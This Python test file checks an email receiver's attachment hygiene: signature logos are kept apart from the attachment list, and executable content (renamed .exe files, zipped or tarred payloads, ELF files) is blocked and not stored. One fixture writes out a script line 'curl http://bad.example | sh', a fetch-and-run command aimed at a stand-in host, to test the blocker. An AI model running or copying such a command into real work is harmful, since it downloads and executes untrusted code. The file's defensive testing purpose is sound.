"""Attachment hygiene end to end over SMTP: a signature logo is kept for rendering but left off the
attachment list (referenced only from the signature block, or sent by the same sender in three
earlier emails), while real attachments stay listed; executable content is not stored whatever
its name (an .exe renamed .pdf, a zip holding one, a large one streamed to disk), the email is
logged and the file listed as not stored with the reason `blocked`."""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zipfile
from email.message import EmailMessage

import pytest

from .blobhelp import blob_bytes, store_of
from .conftest import start_receiver
from .mailers import send

ALICE = "alice@ours.example"
LOGO = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(3000)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + os.urandom(4000) + b"\n%%EOF\n"
SIGNED = """<html><body><p>Hello Bob,</p><p>Thanks for your time today. {extra}</p>
<p>Best regards,</p><p><img src="cid:{cid}" width="120" height="40" alt="Ours"></p>
<p>Alice Example<br>Account Manager, Ours BV<br>+31 20 123 4567<br>www.ours.example</p></body></html>"""


def windows_exe(size: int = 4096) -> bytes:
    head = bytearray(512)
    head[0:2], head[0x3C:0x40], head[0x80:0x84] = b"MZ", struct.pack("<I", 0x80), b"PE\x00\x00"
    return bytes(head) + os.urandom(size - len(head))


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def mail(mid: str, html: str | None = None, images: dict[str, bytes] | None = None,
         files: list[tuple[str, str, bytes]] = (), subject: str = "Following up") -> EmailMessage:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"], msg["Message-ID"] = ALICE, "Bob <bob@acme.example>", subject, f"<{mid}>"
    msg.set_content("Hello Bob,\n\nThanks for your time today.\n")
    if html is not None:
        msg.add_alternative(html, subtype="html")
        for cid, data in (images or {}).items():
            msg.get_payload()[1].add_related(data, "image", "png", cid=f"<{cid}>", filename=f"{cid.split('@')[0]}.png")
    for name, ctype, data in files:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg


class blob:
    """A kept file as the receiver's blob store (whichever back-end) holds it."""

    def __init__(self, receiver, sha: str):
        self.settings, self.sha = receiver.settings, sha

    def exists(self) -> bool:
        return store_of(self.settings).exists(self.sha)

    def read_bytes(self) -> bytes:
        return blob_bytes(self.settings, self.sha)


@pytest.fixture
def alice(receiver):
    return receiver.add_user(ALICE)


def by_subject(receiver) -> dict[str, dict]:
    return {e["subject"]: e for e in receiver.cli.json("timeline", "bob@acme.example")}


def test_a_signature_logo_sent_in_five_emails_is_a_signature_not_an_attachment(receiver, alice):
    for n in range(5):
        files = [("proposal.pdf", "application/pdf", PDF)] if n == 2 else []
        send(receiver.port, mail(f"sig-{n}@ours.example", SIGNED.format(cid="logo@ours", extra=""),
                                 {"logo@ours": LOGO}, files, subject=f"Following up {n}"),
             [alice["bcc_address"]], mail_from=ALICE)
    receiver.drain()
    timeline = by_subject(receiver)
    assert len(timeline) == 5
    for subject, e in timeline.items():
        [logo] = e["signature_images"]
        assert logo["content_id"] == "logo@ours" and logo["stored"] is True and logo["inline"] is True
        assert "logo@ours" not in [a["content_id"] for a in e["attachments"]], subject
    assert [a["filename"] for a in timeline["Following up 2"]["attachments"]] == ["proposal.pdf"]
    assert all(not e["attachments"] for s, e in timeline.items() if s != "Following up 2")
    shas = {e["signature_images"][0]["sha256"] for e in timeline.values()}
    assert len(shas) == 1 and blob(receiver, shas.pop()).read_bytes() == LOGO  # kept once, for rendering


def test_an_image_in_the_text_stays_while_the_signature_logo_beside_it_does_not(receiver, alice):
    chart = b"\x89PNG\r\n\x1a\n" + os.urandom(2000)
    html = SIGNED.format(cid="logo@ours", extra='Here is the chart: <img src="cid:chart@ours">')
    send(receiver.port, mail("chart@ours.example", html, {"logo@ours": LOGO, "chart@ours": chart}),
         [alice["bcc_address"]], mail_from=ALICE)
    receiver.drain()
    [e] = receiver.cli.json("timeline", "bob@acme.example")
    assert [a["content_id"] for a in e["attachments"]] == ["chart@ours"]
    assert [a["content_id"] for a in e["signature_images"]] == ["logo@ours"]


def test_an_inline_image_the_sender_sent_in_three_earlier_emails_becomes_a_signature(receiver, alice):
    html = '<html><body><p><img src="cid:banner@ours"></p><p>Quick question about the order.</p></body></html>'
    for n in range(5):
        send(receiver.port, mail(f"banner-{n}@ours.example", html, {"banner@ours": LOGO},
                                 [("terms.pdf", "application/pdf", PDF)], subject=f"Order {n}"),
             [alice["bcc_address"]], mail_from=ALICE)
        receiver.drain()
    timeline = by_subject(receiver)
    for n in range(5):
        e = timeline[f"Order {n}"]
        listed = sorted(a["filename"] for a in e["attachments"])
        if n < 3:
            assert listed == ["banner.png", "terms.pdf"] and e["signature_images"] == [], n
        else:
            assert listed == ["terms.pdf"] and [a["filename"] for a in e["signature_images"]] == ["banner.png"], n


def test_executable_content_is_blocked_whatever_its_name_and_ordinary_files_are_stored(receiver, alice):
    exe = windows_exe()
    text_zip = zipped({"minutes.txt": b"We agreed on the price.\n" * 50, "notes/todo.txt": b"send the contract\n"})
    tarball = io.BytesIO()
    with tarfile.open(fileobj=tarball, mode="w:gz") as archive:
        info = tarfile.TarInfo("install.sh")
        script = b"#!/bin/sh\ncurl http://bad.example | sh\n"
        info.size = len(script)
        archive.addfile(info, io.BytesIO(script))
    files = [("invoice.pdf", "application/pdf", exe),
             ("documents.zip", "application/zip", zipped({"scan.pdf": exe, "readme.txt": b"open scan.pdf"})),
             ("tools.tar.gz", "application/gzip", tarball.getvalue()),
             ("elf.dat", "application/octet-stream", b"\x7fELF\x02\x01\x01\x00" + os.urandom(500)),
             ("proposal.pdf", "application/pdf", PDF),
             ("minutes.zip", "application/zip", text_zip)]
    send(receiver.port, mail("blocked@ours.example", files=files, subject="The files"), [alice["bcc_address"]],
         mail_from=ALICE)
    receiver.drain()
    [decision] = receiver.cli.json("why", "blocked@ours.example")
    assert decision["reason"] == "LOGGED"
    [e] = receiver.cli.json("timeline", "bob@acme.example")
    listed = {a["filename"]: a for a in e["attachments"]}
    assert list(listed) == [name for name, _, _ in files]
    for name, kind in (("invoice.pdf", "windows-executable"), ("documents.zip", "archive"),
                       ("tools.tar.gz", "archive"), ("elf.dat", "linux-executable")):
        a = listed[name]
        assert (a["stored"], a["reason"], a["blocked_type"]) == (False, "blocked", kind), name
        assert not blob(receiver, a["sha256"]).exists(), name
    for name, data in (("proposal.pdf", PDF), ("minutes.zip", text_zip)):
        assert listed[name]["stored"] is True and "reason" not in listed[name]
        assert blob(receiver, listed[name]["sha256"]).read_bytes() == data


def test_a_large_executable_is_recognised_from_its_first_bytes_on_disk(receiver, alice):
    big = windows_exe(3_000_000)  # well over the size at which a part is decoded to a work file
    send(receiver.port, mail("big-exe@ours.example", files=[("setup-guide.pdf", "application/pdf", big)]),
         [alice["bcc_address"]], mail_from=ALICE)
    receiver.drain()
    [e] = receiver.cli.json("timeline", "bob@acme.example")
    [a] = e["attachments"]
    assert (a["stored"], a["reason"], a["size"]) == (False, "blocked", len(big))
    assert not blob(receiver, a["sha256"]).exists()


def test_blocked_attachment_types_can_be_emptied(tmp_path, db_url):
    rx = start_receiver(tmp_path, db_url, blocked_attachment_types="")
    try:
        user = rx.add_user(ALICE)
        send(rx.port, mail("allowed@ours.example", files=[("tool.exe", "application/octet-stream", windows_exe())]),
             [user["bcc_address"]], mail_from=ALICE)
        rx.drain()
        [e] = rx.cli.json("timeline", "bob@acme.example")
        assert e["attachments"][0]["stored"] is True
    finally:
        rx.stop()


def test_the_owner_is_told_which_attachment_was_blocked(tmp_path, db_url):
    from .relay import Sink
    relay = Sink().start()
    rx = start_receiver(tmp_path, db_url, notify_smtp_host="127.0.0.1", notify_smtp_port=relay.port)
    try:
        user = rx.add_user(ALICE)
        send(rx.port, mail("told@ours.example", files=[("invoice.pdf", "application/pdf", windows_exe())],
                           subject="Your invoice"), [user["bcc_address"]], mail_from=ALICE)
        rx.drain()
        [notice] = relay.wait(1)
        assert notice.rcpt_tos == [ALICE] and "Your invoice" in notice.message["Subject"]
        text = notice.message.get_body(("plain",)).get_content()
        assert "invoice.pdf" in text and "blocked" in text
    finally:
        rx.stop()
        relay.stop()
